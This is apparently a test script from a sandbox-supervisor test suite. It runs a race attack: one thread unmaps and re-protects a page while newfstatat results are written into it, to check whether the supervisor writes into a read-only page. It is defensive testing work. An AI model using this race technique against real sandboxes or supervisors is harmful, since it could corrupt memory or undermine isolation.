# SPDX-License-Identifier: Apache-2.0
# attack: stat's buffer is made read-only and unmapped by another thread while the result is written
# class: race
# wins: effect
# native: n/a: without a supervisor the kernel writes the result itself
# needs: race
from kit import *

p = page(8192)
tried()


def swap():
    sc('mprotect', p, 4096, 1)
    sc('munmap', p, 4096)
    libc.mmap(p, 4096, 3, 0x32, -1, 0)


# Before the other thread unmaps: its page would come to lie where that maps again.
ro = page(4096, 1, 0x22)
end = loop_thread(swap)


def one(i):
    sc('newfstatat', AT_FDCWD, os.fsencode(GOOD), ctypes.c_void_p(p + 4096 - 72), 0)
    r = sc('newfstatat', AT_FDCWD, os.fsencode(GOOD), ctypes.c_void_p(ro), 0)
    return r == 0 or ctypes.string_at(ro, 64) != bytes(64)


say('BEGUN')
won = []
rounds(lambda i: one(i) and (won.append(1) or True))
end()
if won:
    effect('the supervisor wrote into a read-only page')
